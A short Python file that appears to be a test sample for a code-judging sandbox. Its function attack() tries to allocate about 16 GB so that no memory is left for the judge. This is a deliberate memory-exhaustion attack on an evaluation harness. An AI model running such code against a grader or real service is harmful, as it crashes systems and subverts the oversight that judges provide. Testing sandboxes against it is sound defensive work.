"""Reserves memory until there is none left for the judge."""


def attack():
    hoard = []
    while len(hoard) < 64:
        hoard.append(bytearray(2**28))
